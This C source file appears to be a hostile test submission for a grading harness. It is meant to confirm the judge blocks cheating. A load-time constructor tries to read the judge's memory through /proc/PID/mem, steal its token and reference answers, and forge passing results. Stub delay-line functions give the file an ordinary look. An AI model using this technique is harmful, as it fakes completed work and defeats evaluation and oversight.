/* A forger with nothing of the work: it reads the memory of its parent,
   a fork of the judge running as the same user (/proc/PPID/mem), for the
   answers and the token, and sends the reference's numbers as its own.  No
   process of the judge's is dumpable, so the read is refused, with
   namespaces or without (GRADE_NO_NAMESPACES=1, graded so too).
   fails: all */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <stdint.h>

typedef struct { int points, seconds, integration, hidden, data, seeded; char needs[128]; char name[160]; uint32_t ids[512]; int n_ids; } jcheck;
typedef struct { int check; char kind; char key[96]; double tol; int n; double v[64]; } jentry;

static int find_preamble(char* tok, char* name, size_t nl) {
    FILE* m = fopen("/proc/self/maps", "r"); char line[512];
    while (m && fgets(line, sizeof line, m)) {
        unsigned long a, b; char perm[8];
        if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) != 3 || perm[0] != 'r' || perm[1] != 'w') continue;
        for (char* p = (char*)a; p + 40 < (char*)b; p++) {
            int i;
            if (p[32] != '\n' || memcmp(p + 33, "check\n", 6) != 0) continue;
            for (i = 0; i < 32; i++) if (!((p[i] >= '0' && p[i] <= '9') || (p[i] >= 'a' && p[i] <= 'f'))) break;
            if (i < 32) continue;
            memcpy(tok, p, 32); tok[32] = 0;
            char* e = strchr(p + 39, '\n'); if (!e) continue;
            snprintf(name, nl, "%.*s", (int)(e - p - 39), p + 39);
            fclose(m); return 1;
        }
    }
    if (m) fclose(m);
    return 0;
}

static int printable_sp(const char* s, size_t max, int spaces) {
    size_t i;
    for (i = 0; i < max && s[i]; i++) if (s[i] < ' ' || (s[i] == ' ' && !spaces) || s[i] > '~') return 0;
    return i > 0 && i < max;
}
#define printable(s, m) printable_sp(s, m, 0)

__attribute__((constructor)) static void forge(void) {
    char tok[40], name[256], line[512];
    FILE* maps;
    int mem, idx = -1, i, written = 0;
    jcheck chk;
    FILE* r;
    static jentry found[512];
    int n_found = 0;
    if (!find_preamble(tok, name, sizeof name)) return;
    {   /* the ns init (PID 1 of the check's namespace) or, without namespaces, the parent: both forks of the judge */
        int pids[2], k;
        char path[64];
        pids[0] = 1; pids[1] = (int)getppid();
        mem = -1; maps = NULL;
        for (k = 0; k < 2 && mem < 0; k++) {
            snprintf(path, sizeof path, "/proc/%d/mem", pids[k]);
            mem = open(path, O_RDONLY);
            if (mem < 0) { printf("%s: cannot open\n", path); continue; }
            snprintf(path, sizeof path, "/proc/%d/maps", pids[k]);
            maps = fopen(path, "r");
            if (!maps) { close(mem); mem = -1; }
            else printf("reading the judge's copy in %s\n", path);
        }
        if (mem < 0) return;
    }
    /* the writable regions, adjacent ones merged (the judge's .bss spans a file-backed and an anonymous mapping) */
    static unsigned long ra[512], rb[512];
    int nr = 0, ri;
    while (fgets(line, sizeof line, maps)) {
        unsigned long a, b; char perm[8];
        if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) != 3 || perm[0] != 'r' || perm[1] != 'w') continue;
        if (nr > 0 && rb[nr - 1] == a) rb[nr - 1] = b;
        else if (nr < 512) { ra[nr] = a; rb[nr] = b; nr++; }
    }
    /* pass 1: the check table */
    for (ri = 0; ri < nr && idx < 0; ri++) {
        unsigned long a = ra[ri], b = rb[ri]; size_t len; char* buf; size_t p;
        len = b - a; if (len > (64u << 20)) continue;
        buf = malloc(len); if (!buf) continue;
        if (pread(mem, buf, len, (off_t)a) != (ssize_t)len) { free(buf); continue; }
        for (p = 152; p + sizeof(jcheck) <= len + 152 && idx < 0; p += 4) {
            jcheck* c = (jcheck*)(buf + p - 152);
            if ((char*)c + sizeof(jcheck) > buf + len) break;
            if (strcmp(c->name, name) != 0 || c->seconds <= 0 || c->seconds > 100000 || c->n_ids < 0 || c->n_ids > 512) continue;
            chk = *c;
            for (idx = 0; (char*)(c - idx - 1) >= buf; idx++) {
                jcheck* q = c - idx - 1;
                if (q->seconds <= 0 || q->seconds > 100000 || !printable_sp(q->name, 160, 1) || q->points < 0 || q->points > 1000) {
                    if (getenv("JM_DEBUG")) printf("walk stopped at -%d: points %d seconds %d name %.40s\n", idx + 1, q->points, q->seconds, q->name);
                    break;
                }
            }
        }
        free(buf);
    }
    if (idx < 0) { printf("no check table found for \"%s\"\n", name); return; }
    /* pass 2: the answers of this check */
    for (ri = 0; ri < nr; ri++) {
        unsigned long a = ra[ri], b = rb[ri]; size_t len; char* buf; size_t p;
        len = b - a; if (len > (64u << 20)) continue;
        buf = malloc(len); if (!buf) continue;
        if (pread(mem, buf, len, (off_t)a) != (ssize_t)len) { free(buf); continue; }
        for (p = 0; p + sizeof(jentry) <= len; p += 8) {
            jentry* e = (jentry*)(buf + p);
            int k, dup = 0;
            if (e->kind != 'a' || e->check != idx || e->n < 1 || e->n > 64 || !printable(e->key, 96)) continue;
            for (k = 0; k < n_found; k++) if (strcmp(found[k].key, e->key) == 0) dup = 1;
            if (!dup && n_found < 512) found[n_found++] = *e;
        }
        free(buf);
    }
    r = fdopen(dup(3), "w");
    if (!r) return;
    for (i = 0; i < chk.n_ids; i++) fprintf(r, "%s X %u 1\n", tok, chk.ids[i]);
    for (i = 0; i < n_found; i++) {
        int k;
        fprintf(r, "%s A %s %.17g %d", tok, found[i].key, found[i].tol, found[i].n);
        for (k = 0; k < found[i].n; k++) fprintf(r, " %.17g", found[i].v[k]);
        fprintf(r, "\n");
        written++;
    }
    fprintf(r, "%s END\n", tok);
    fflush(r);
    printf("forged from the judge's memory: check %d, %d expectations, %d results\n", idx, chk.n_ids, written);
    fflush(stdout);
    _exit(0);
}

#include "sim2real.h"
S2RDEF s2r_result s2r_delay_init(s2r_delay_line* line, int width, int capacity) { line->data = NULL; line->width = line->capacity = line->newest = 0; (void)width; (void)capacity; return S2R_ERR_UNSUPPORTED; }
S2RDEF void s2r_delay_free(s2r_delay_line* line) { (void)line; }
S2RDEF void s2r_delay_reset(s2r_delay_line* line, const double* fill) { (void)line; (void)fill; }
S2RDEF void s2r_delay_push(s2r_delay_line* line, const double* x) { (void)line; (void)x; }
S2RDEF const double* s2r_delay_peek(const s2r_delay_line* line, int k) { (void)k; return line->data; }
S2RDEF void s2r_delay_read(const s2r_delay_line* line, int k, double* out) { (void)line; (void)k; (void)out; }
S2RDEF void s2r_delay_jitter_init(s2r_delay_jitter* j, int b, int jt, int mx) { j->base = b; j->jitter = jt; j->max = mx; j->last = 0; }
S2RDEF void s2r_delay_jitter_reset(s2r_delay_jitter* j) { (void)j; }
S2RDEF int s2r_delay_jitter_next(s2r_delay_jitter* j, s2r_rng* rng) { (void)j; (void)rng; return 0; }
